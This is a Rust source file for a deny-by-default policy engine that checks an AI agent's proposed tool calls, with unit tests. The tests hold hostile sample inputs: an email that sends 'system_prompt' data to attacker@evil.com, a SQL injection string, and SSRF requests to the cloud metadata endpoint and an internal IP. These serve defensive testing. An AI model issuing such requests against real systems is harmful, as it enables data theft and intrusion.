//! The policy decision engine.
//!
//! `PolicyEngine` is the single entry point for vetting a proposed action.
//! Rules run in a fixed order and the first failure wins:
//!
//! 1. **Allowlist** - the tool must be a permitted kind (deny-by-default)
//! 2. **Sensitive content** - no credential/prompt markers anywhere in the arguments
//! 3. **Kind rules** - see [`RulesValidator`]
//!
//! The engine holds no mutable state. Equal inputs always produce equal
//! decisions, and it is safe to share across threads without locking.

use crate::catalog::PERMITTED_TOOLS;
use crate::error::PolicyViolation;
use crate::rules::RulesValidator;
use mediator_core::{Arguments, ContextMeta, Decision, PolicyConfig, ProposedAction, ToolKind};

/// Reason attached to every permit.
pub const PERMIT_REASON: &str = "Permitted by policy.";

/// Deterministic allow/deny engine for proposed tool calls.
#[derive(Debug, Clone)]
pub struct PolicyEngine {
    /// Normalized (trimmed, lowercased) destination domains.
    allowed_email_domains: Vec<String>,
}

impl PolicyEngine {
    /// Create an engine that accepts mail to `allowed_email_domains` and their subdomains.
    pub fn new<I, S>(allowed_email_domains: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let allowed_email_domains = allowed_email_domains
            .into_iter()
            .map(|d| d.as_ref().trim().to_lowercase())
            .filter(|d| !d.is_empty())
            .collect();
        Self {
            allowed_email_domains,
        }
    }

    pub fn from_config(config: &PolicyConfig) -> Self {
        Self::new(&config.allowed_email_domains)
    }

    pub fn allowed_email_domains(&self) -> &[String] {
        &self.allowed_email_domains
    }

    /// Vet one proposed tool invocation.
    ///
    /// Never fails: every rejection, including malformed input, comes back
    /// as a deny decision whose reason names the rule that fired.
    pub fn validate(&self, tool: &str, args: &Arguments, meta: &ContextMeta) -> Decision {
        let decision = match self.evaluate(tool, args) {
            Ok(()) => Decision::permit(PERMIT_REASON),
            Err(violation) => violation.into(),
        };

        tracing::debug!(
            case_id = %meta.case_id,
            run_idx = meta.run_idx,
            tool = %tool,
            allowed = decision.allowed,
            rule = ?decision.rule,
            "policy decision"
        );

        decision
    }

    /// Convenience wrapper over [`validate`](Self::validate).
    pub fn check(&self, action: &ProposedAction, meta: &ContextMeta) -> Decision {
        self.validate(&action.tool, &action.args, meta)
    }

    /// Run the rules in order and stop at the first violation.
    pub fn evaluate(&self, tool: &str, args: &Arguments) -> Result<(), PolicyViolation> {
        // 1. Allowlist
        let kind = Self::permitted_kind(tool)?;

        // 2. Exfiltration can go through any channel, so this precedes kind rules
        let rules = RulesValidator::new(&self.allowed_email_domains);
        rules.validate_sensitive(args)?;

        // 3. Kind-specific rules
        rules.validate_kind(kind, args)
    }

    fn permitted_kind(tool: &str) -> Result<ToolKind, PolicyViolation> {
        tool.parse::<ToolKind>()
            .ok()
            .filter(|kind| PERMITTED_TOOLS.contains(kind))
            .ok_or_else(|| PolicyViolation::tool_not_allowed(tool))
    }
}

impl Default for PolicyEngine {
    fn default() -> Self {
        Self::from_config(&PolicyConfig::default())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mediator_core::PolicyRule;
    use serde_json::json;

    fn engine() -> PolicyEngine {
        PolicyEngine::new(["axa.com", "example.com"])
    }

    fn meta() -> ContextMeta {
        ContextMeta {
            case_id: "test".to_string(),
            run_idx: 1,
        }
    }

    fn args(value: serde_json::Value) -> Arguments {
        value.as_object().cloned().unwrap()
    }

    #[test]
    fn test_unknown_tools_always_denied() {
        let engine = engine();
        let any_args = [
            json!({}),
            json!({"to": "ops@example.com", "body": "hello"}),
            json!({"query": "SELECT 1"}),
        ];
        for tool in ["shell_exec", "SEND_EMAIL", "send_email ", "", "delete_user"] {
            for a in &any_args {
                let decision = engine.validate(tool, &args(a.clone()), &meta());
                assert!(!decision.allowed, "tool {tool:?}");
                assert_eq!(decision.rule, Some(PolicyRule::Allowlist));
                assert!(decision.reason.contains("deny-by-default"));
            }
        }
    }

    #[test]
    fn test_sensitive_check_precedes_kind_rules() {
        // Both the domain and the body would fail, but exfiltration is reported.
        let decision = engine().validate(
            "send_email",
            &args(json!({"to": "attacker@evil.com", "body": "system_prompt=..."})),
            &meta(),
        );
        assert!(!decision.allowed);
        assert_eq!(decision.rule, Some(PolicyRule::SensitiveContent));
    }

    #[test]
    fn test_legit_email_permitted() {
        let decision = engine().validate(
            "send_email",
            &args(json!({
                "to": "ops@example.com",
                "body": "Please send email to ops@example.com with: Hello team, status OK."
            })),
            &meta(),
        );
        assert!(decision.allowed);
        assert_eq!(decision.reason, PERMIT_REASON);
        assert_eq!(decision.rule, None);
    }

    #[test]
    fn test_subdomain_permitted_foreign_denied() {
        let engine = engine();
        let ok = engine.validate(
            "send_email",
            &args(json!({"to": "team@mail.axa.com", "body": "weekly numbers"})),
            &meta(),
        );
        assert!(ok.allowed);

        let denied = engine.validate(
            "send_email",
            &args(json!({"to": "attacker@evil.com", "body": "weekly numbers"})),
            &meta(),
        );
        assert!(!denied.allowed);
        assert_eq!(denied.rule, Some(PolicyRule::EmailDomain));
        assert!(denied.reason.contains("attacker@evil.com"));
    }

    #[test]
    fn test_missing_arguments_fail_closed() {
        let engine = engine();
        let email = engine.validate("send_email", &Arguments::new(), &meta());
        assert_eq!(email.rule, Some(PolicyRule::EmailDomain));

        let query = engine.validate("db_query", &Arguments::new(), &meta());
        assert_eq!(query.rule, Some(PolicyRule::QueryVerb));

        let fetch = engine.validate("http_get", &Arguments::new(), &meta());
        assert_eq!(fetch.rule, Some(PolicyRule::MalformedAction));
    }

    #[test]
    fn test_classic_injection_denied() {
        let decision = engine().validate(
            "db_query",
            &args(json!({"query": "SELECT * FROM users WHERE username = '' OR 1=1 --"})),
            &meta(),
        );
        assert!(!decision.allowed);
        assert_eq!(decision.rule, Some(PolicyRule::QueryInjection));
    }

    #[test]
    fn test_metadata_endpoint_denied() {
        let decision = engine().validate(
            "http_get",
            &args(json!({"url": "http://169.254.169.254/latest/meta-data/iam/"})),
            &meta(),
        );
        assert!(!decision.allowed);
        assert_eq!(decision.rule, Some(PolicyRule::Ssrf));
        assert!(decision.reason.contains("169.254.169.254"));
    }

    #[test]
    fn test_decisions_are_deterministic() {
        let engine = engine();
        let a = args(json!({"url": "https://example.com/status"}));
        let first = engine.validate("http_get", &a, &meta());
        for _ in 0..10 {
            assert_eq!(engine.validate("http_get", &a, &meta()), first);
        }
        assert!(first.allowed);
    }

    #[test]
    fn test_domains_are_normalized() {
        let engine = PolicyEngine::new([" Example.COM ", ""]);
        assert_eq!(engine.allowed_email_domains(), ["example.com".to_string()]);
    }

    #[test]
    fn test_check_uses_action_fields() {
        let action = ProposedAction::with_args("http_get", [("url", "http://10.0.0.8/")]);
        let decision = engine().check(&action, &meta());
        assert_eq!(decision.rule, Some(PolicyRule::Ssrf));
    }
}
